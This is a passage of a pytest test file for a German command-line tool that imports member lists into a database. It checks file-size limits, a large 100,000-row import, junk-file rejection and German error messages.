    assert str(caught.value) == "gross.csv: Datei zu groß: 50,0 MB; höchstens 10 MB erlaubt"
    assert elapsed < 1.0  # the bar; it takes a few milliseconds: nothing is read
    assert dump(sqlite_register) == before


def test_size_limit_is_configurable(sqlite_register, tmp_path):
    path = _big_csv(tmp_path / "m.csv", int(1.5 * MB))
    with pytest.raises(FileTooLarge, match=r"m.csv: Datei zu groß: 1,5 MB; höchstens 1 MB erlaubt"):
        import_members(sqlite_register, path, limits=ReadLimits(max_mb=1))
    report, _ = run_import(sqlite_register, path, limits=ReadLimits(max_mb=2), dry_run=True)
    assert report.ok, report.text()
    assert load_settings(environ={"LPR_GEO_IMPORT_MAX_MB": "2,5"}).import_max_mb == 2.5
    assert load_settings(environ={}).import_max_mb == 10
    for wrong in ("abc", "0", "-1", "nan", "inf"):
        with pytest.raises(SettingsError, match="LPR_GEO_IMPORT_MAX_MB"):
            load_settings(environ={"LPR_GEO_IMPORT_MAX_MB": wrong})


def test_hundred_thousand_rows(sqlite_register, tmp_path):
    """100,000 valid rows (417 Gemeinden × 240 days) import in one transaction where the limits allow them
    (the default allows 50,000 data rows); the time is printed."""
    gemeinden = sorted(_keys()["gemeinde"])
    labels = ["Mitglied", "Angefragt", "Im Gespräch", "Mitarbeit zugesagt"]
    path = tmp_path / "gross.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle, delimiter=";")
        writer.writerow(["AGS", "Status", "Seit", "Ansprechpartner", "E-Mail", "Bemerkung"])
        for i in range(100_000):
            day = dt.date(2020, 2, 20) + dt.timedelta(days=i // len(gemeinden))
            writer.writerow(
                [
                    gemeinden[i % len(gemeinden)],
                    labels[i % 4],
                    f"{day:%d.%m.%Y}",
                    f"Person {i % 3}",
                    f"p{i % 3}@example.org",
                    f"=Zeile {i}",
                ]
            )
    start = time.perf_counter()
    report = import_members(sqlite_register, path, user="fuzz", limits=ReadLimits(max_rows=100_000))
    elapsed = time.perf_counter() - start
    print(f"\n100,000 rows ({path.stat().st_size / MB:.1f} MB) imported in {elapsed:.1f} s")
    assert report.ok, report.text()[:2000]
    assert report.counts["events_added"] == 100_000 and report.counts["participants_added"] == len(gemeinden)


# -- the real command line -----------------------------------------------------------------------------------


def _run(*args: str, **env: str) -> subprocess.CompletedProcess:
    return subprocess.run(
        [LPR_GEO, *args], capture_output=True, text=True, timeout=120, env={**os.environ, **env}, check=False
    )


def test_cli_rejects_a_too_big_file(tmp_path):
    db = f"sqlite:///{tmp_path / 'r.sqlite'}"
    path = _big_csv(tmp_path / "gross.csv", 50 * MB)
    done = _run("members", "import", str(path), "--db", db)
    assert done.returncode == 1, done.stdout
    assert "Fehler: gross.csv: Datei zu groß: 50,0 MB; höchstens 10 MB erlaubt" in done.stderr, done.stderr
    assert "LPR_GEO_IMPORT_MAX_MB" in done.stderr and "Traceback" not in done.stderr
    small = _big_csv(tmp_path / "klein.csv", 3 * MB)
    done = _run("members", "import", str(small), "--db", db, "--dry-run", LPR_GEO_IMPORT_MAX_MB="2")
    assert done.returncode == 1 and "Datei zu groß: 3,0 MB; höchstens 2 MB erlaubt" in done.stderr, (
        done.stderr
    )
    engine = make_engine(db)
    assert not any(rows for name, rows in dump(engine).items() if name not in ("networks",))
    engine.dispose()
    done = _run("members", "import", str(small), "--db", db, LPR_GEO_IMPORT_MAX_MB="zehn")
    assert done.returncode == 1 and "Traceback" not in done.stderr, done.stderr
    assert done.stderr.startswith("Fehler: LPR_GEO_IMPORT_MAX_MB: »zehn« ist keine gültige Größe"), (
        done.stderr
    )


@pytest.mark.parametrize(
    ("name", "content", "expected"),
    [
        ("junk.xlsx", bytes((i * 37 + 11) % 256 for i in range(4096)), "keine lesbare XLSX-Datei"),
        ("junk.csv", bytes(range(256)) * 16, "keine Textdatei"),
    ],
)
def test_cli_reports_junk_in_german(tmp_path, name, content, expected):
    db = f"sqlite:///{tmp_path / 'r.sqlite'}"
    done = _run("members", "import", str(write_bytes(tmp_path / name, content)), "--db", db)
    assert done.returncode == 1
    assert f"\nFehler: {name}: " in f"\n{done.stderr}" and expected in done.stderr, done.stderr
    assert "Traceback" not in done.stderr
